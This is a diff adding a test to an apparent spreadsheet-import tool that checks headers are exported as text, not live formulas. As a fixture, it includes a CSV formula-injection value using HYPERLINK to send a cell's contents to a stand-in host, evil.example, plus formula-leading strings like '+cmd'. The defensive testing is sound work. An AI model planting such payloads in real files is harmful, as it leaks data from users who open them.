@@ -176,3 +176,21 @@ def test_a_sheet_away_from_a1_keeps_its_rows_and_columns_and_shares_repeated_tex
     assert rejects.frame(plan).values.tolist() == [
         [5, "", "", "Bo", "Silva", "bo@x", "Email: not an email address: 'bo@x'"]
     ]
+
+
+def test_headers_are_never_written_as_live_formulas(tmp_path, workspace):
+    """A header from an imported file ("=HYPERLINK(...)") is text in the rejects workbook and in exports."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Email")'
+    path = tmp_path / "h.csv"
+    path.write_text(f'First Name,Last Name,Email,"{hostile.replace(chr(34), chr(34) * 2)}"\nBo,Silva,bo@x,1\n')
+    prepared = prepare(workspace, path)
+    plan = plan_import(workspace, prepared.table, "contacts", prepared.mapping)
+    out = rejects.write_rejects(plan, tmp_path / "rejects.xlsx")
+    header = load_workbook(out).active[1]
+    assert [c.value for c in header][4] == hostile
+    assert all(c.data_type == "s" for c in header)  # text, never a formula
+    import pandas as pd
+
+    out = write_xlsx(pd.DataFrame({"@SUM(1)": [1], "+cmd": ["x"]}), tmp_path / "e.xlsx")
+    assert [(c.value, c.data_type) for c in load_workbook(out).active[1]] == [("@SUM(1)", "s"), ("+cmd", "s")]
+
